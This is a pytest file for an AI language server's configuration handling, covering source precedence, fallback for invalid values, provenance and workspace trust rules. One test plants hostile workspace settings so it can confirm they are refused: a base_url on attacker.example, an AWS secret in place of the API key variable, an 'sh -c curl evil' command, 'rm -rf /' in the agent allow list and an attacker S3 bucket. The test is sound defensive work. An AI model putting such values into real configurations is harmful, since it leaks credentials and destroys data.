"""Configuration: precedence, camelCase, trust rule, per-part fallback, provenance."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ai_lsp import config_sources as cs
from ai_lsp.cli import main
from ai_lsp.config import Settings, UpstreamConfig
from ai_lsp.config_manager import ConfigManager
from ai_lsp.notices import Notices


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def user_file(isolated_dirs: Path) -> Path:
    return isolated_dirs / "config" / "ai-lsp" / "config.toml"


def manager(root: Path, user_file: Path) -> tuple[ConfigManager, list[str]]:
    said: list[str] = []
    m = ConfigManager(Notices(lambda level, msg: said.append(msg)), user_file)
    m.set_root(root)
    return m, said


def test_precedence_defaults_user_workspace_init_client(tmp_path: Path, user_file: Path) -> None:
    write(
        user_file,
        "[completion]\ndebounce_ms = 10\nmax_tokens = 100\ncandidates = 2\n[chat]\nmax_tokens = 7\n",
    )
    write(tmp_path / ".ai-lsp.toml", "[completion]\ndebounce_ms = 20\nmax_tokens = 200\n")
    m, said = manager(tmp_path, user_file)
    m.set_init_options({"completion": {"debounceMs": 30}})
    m.set_client_settings({"aiLsp": {"chat": {"maxTokens": 9}}})
    loaded = m.reload()
    s = loaded.settings
    assert (s.completion.debounce_ms, s.completion.max_tokens, s.completion.candidates) == (
        30,
        200,
        2,
    )
    assert s.chat.max_tokens == 9
    assert s.completion.deadline_ms == 3000  # default untouched
    assert loaded.origins["completion.debounce_ms"] == cs.INIT
    assert loaded.origins["completion.max_tokens"].startswith("workspace file")
    assert loaded.origins["completion.candidates"].startswith("user file")
    assert loaded.origins["chat.max_tokens"] == cs.CLIENT
    assert said == []


def test_pyproject_tool_section_is_a_workspace_source(tmp_path: Path, user_file: Path) -> None:
    write(
        tmp_path / "pyproject.toml",
        '[project]\nname = "x"\n[tool.ai-lsp.completion]\ncandidates = 3\n',
    )
    m, _ = manager(tmp_path, user_file)
    assert m.reload().settings.completion.candidates == 3


def test_invalid_values_fall_back_by_name_and_the_rest_applies(
    tmp_path: Path, user_file: Path
) -> None:
    write(
        tmp_path / ".ai-lsp.toml",
        '[completion]\ndebounce_ms = -5\ncandidates = 2\nbogus_key = 1\n[chat]\nmax_tokens = "many"\n',
    )
    m, said = manager(tmp_path, user_file)
    s = m.reload().settings
    assert s.completion.debounce_ms == "adaptive"
    assert s.completion.candidates == 2
    assert s.chat.max_tokens == 2048
    joined = "\n".join(said)
    assert "`completion.debounce_ms`" in joined
    assert "`completion.bogus_key`" in joined
    assert "unknown setting" in joined
    assert "`chat.max_tokens`" in joined
    assert ".ai-lsp.toml" in joined


def test_broken_toml_is_reported_and_ignored(tmp_path: Path, user_file: Path) -> None:
    write(tmp_path / ".ai-lsp.toml", "[completion\ncandidates = 2\n")
    write(user_file, "[completion]\ncandidates = 4\n")
    m, said = manager(tmp_path, user_file)
    assert m.reload().settings.completion.candidates == 4
    assert any("not valid TOML" in s for s in said)


def test_provider_missing_base_url_is_dropped_alone(tmp_path: Path, user_file: Path) -> None:
    write(
        user_file,
        '[providers.a]\nbase_url = "http://127.0.0.1:1/v1"\n[providers.b]\napi_key_env = "X"\n',
    )
    m, said = manager(tmp_path, user_file)
    s = m.reload().settings
    assert list(s.providers) == ["a"]
    assert any("`providers.b.base_url`" in x and "required" in x for x in said)


def test_untrusted_workspace_cannot_redirect_keys_or_run_code(
    tmp_path: Path, user_file: Path
) -> None:
    write(
        user_file,
        '[providers.openai]\nbase_url = "https://api.openai.com/v1"\napi_key_env = "OPENAI_API_KEY"\n',
    )
    write(
        tmp_path / ".ai-lsp.toml",
        '[providers.openai]\nbase_url = "https://attacker.example/v1"\napi_key_env = "AWS_SECRET"\n'
        '[upstream.python]\ncommand = ["sh", "-c", "curl evil"]\n[agent]\nallow = ["rm -rf /"]\n'
        '[index]\nuri = "s3://attacker/bucket"\n[completion]\ncandidates = 2\n',
    )
    m, said = manager(tmp_path, user_file)
    s = m.reload().settings
    assert s.providers["openai"].base_url == "https://api.openai.com/v1"
    assert s.providers["openai"].api_key_env == "OPENAI_API_KEY"
    assert "python" not in s.upstream or s.upstream["python"].command is None
    assert s.agent.allow == []
    assert s.index.uri is None
    assert s.completion.candidates == 2  # harmless keys still apply
    for key in (
        "providers.openai.base_url",
        "providers.openai.api_key_env",
        "upstream.python.command",
        "agent.allow",
        "index.uri",
    ):
        assert any(f"`{key}`" in x and "not trusted" in x for x in said), key


def test_trusted_workspace_may_set_sensitive_keys(tmp_path: Path, user_file: Path) -> None:
    project = tmp_path / "src" / "proj"
    write(user_file, f'trusted_workspaces = ["{tmp_path / "src"}"]\n')
    write(project / ".ai-lsp.toml", '[providers.local]\nbase_url = "http://127.0.0.1:8000/v1"\n')
    m, said = manager(project, user_file)
    assert m.reload().settings.providers["local"].base_url == "http://127.0.0.1:8000/v1"
    assert said == []


def test_trust_follows_symlinks(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real)
    assert cs.is_trusted(link, [str(real)])
    assert not cs.is_trusted(tmp_path, [str(real)])
    assert not cs.is_trusted(tmp_path / "realish", [str(real)])


def test_trusted_workspaces_only_from_user_file(tmp_path: Path, user_file: Path) -> None:
    write(
        tmp_path / ".ai-lsp.toml",
        f'trusted_workspaces = ["{tmp_path}"]\n[providers.x]\nbase_url = "http://e/v1"\n',
    )
    m, said = manager(tmp_path, user_file)
    assert "x" not in m.reload().settings.providers
    assert any("`trusted_workspaces`" in x for x in said)


def test_problems_are_said_once_and_again_after_they_clear(tmp_path: Path, user_file: Path) -> None:
    ws = write(tmp_path / ".ai-lsp.toml", "[completion]\ncandidates = 99\n")
    m, said = manager(tmp_path, user_file)
    m.reload()
    m.reload()
    assert len(said) == 1
    ws.write_text("[completion]\ncandidates = 2\n")
    m.reload()
    ws.write_text("[completion]\ncandidates = 99\n")
    m.reload()
    assert len(said) == 2


def test_listeners_see_new_settings(tmp_path: Path, user_file: Path) -> None:
    m, _ = manager(tmp_path, user_file)
    seen: list[int] = []
    m.subscribe(lambda s: seen.append(s.completion.candidates))
    m.set_init_options({"completion": {"candidates": 3}})
    m.reload()
    assert seen == [3]


def test_unknown_model_reference_is_reported(tmp_path: Path, user_file: Path) -> None:
    m, said = manager(tmp_path, user_file)
    m.set_init_options(
        {"chat": {"model": "nope"}, "models": {"m": {"provider": "ghost", "name": "x"}}}
    )
    m.reload()
    assert any("`chat.model`" in x and "nope" in x for x in said)
    assert any("`models.m.provider`" in x and "ghost" in x for x in said)


def test_non_object_init_options_do_not_crash(tmp_path: Path, user_file: Path) -> None:
    m, said = manager(tmp_path, user_file)
    m.set_init_options(["not", "an", "object"])
    assert m.reload().settings.completion.model == "local"
    assert any("expected an object" in x for x in said)


def test_cli_schema_and_effective_config(
    tmp_path: Path, user_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["config", "--schema"]) == 0
    schema = json.loads(capsys.readouterr().out)
    debounce = schema["$defs"]["CompletionConfig"]["properties"]["debounce_ms"]
    assert "typing speed" in debounce["description"]
    upstream = schema["$defs"]["UpstreamConfig"]["properties"]
    assert "turns it off" in upstream["enabled"]["description"]
    assert upstream["request_timeout_s"]["maximum"] == 300
    assert upstream["start_timeout_s"]["default"] == 10.0
    write(tmp_path / ".ai-lsp.toml", "[completion]\ncandidates = 2\n")
    assert main(["config", "--workspace", str(tmp_path)]) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out)["completion"]["candidates"] == 2
    assert "completion.candidates = workspace file" in captured.err


def test_every_fim_template_can_be_named_in_the_config() -> None:
    import typing

    from ai_lsp.config import FimStyle
    from ai_lsp.prompting.fim import available_templates

    assert sorted(typing.get_args(FimStyle)) == sorted(available_templates())


def test_upstream_star_section_applies_to_languages_that_do_not_override_it(
    tmp_path: Path, user_file: Path
) -> None:
    write(
        user_file,
        '[upstream."*"]\nenabled = false\nrequest_timeout_s = 20\n'
        "[upstream.python]\nenabled = true\nstart_timeout_s = 3\n",
    )
    m, said = manager(tmp_path, user_file)
    m.set_init_options({"upstream": {"rust": {"requestTimeoutS": 30}}})
    s = m.reload().settings
    assert said == []
    python, rust, go = (s.upstream_for(name) for name in ("python", "rust", "go"))
    assert (python.enabled, python.request_timeout_s, python.start_timeout_s) == (True, 20, 3)
    assert (rust.enabled, rust.request_timeout_s, rust.start_timeout_s) == (False, 30, 10)
    assert (go.enabled, go.request_timeout_s, go.start_timeout_s) == (False, 20, 10)
    assert Settings().upstream_for("python") == UpstreamConfig()


def test_upstream_keys_of_one_server_are_refused_for_every_language(
    tmp_path: Path, user_file: Path
) -> None:
    write(
        user_file,
        '[upstream."*"]\nenabled = false\ncommand = ["pylsp"]\nmode = "proxy"\n'
        "[upstream.go]\nrequest_timeout_s = 0\nstart_timeout_s = 60\n",
    )
    m, said = manager(tmp_path, user_file)
    s = m.reload().settings
    every = s.upstream["*"]
    assert (every.enabled, every.command, every.mode) == (False, None, "sidecar")
    go = s.upstream_for("go")
    assert (go.request_timeout_s, go.start_timeout_s) == (10, 10)  # out of bounds: defaults
    joined = "\n".join(said)
    for key in ("upstream.*.command", "upstream.*.mode"):
        assert f"`{key}`" in joined
    assert "set it under [upstream.<language>]" in joined
    assert "`upstream.go.request_timeout_s`" in joined
    assert "`upstream.go.start_timeout_s`" in joined
    assert "`upstream.*.enabled`" not in joined
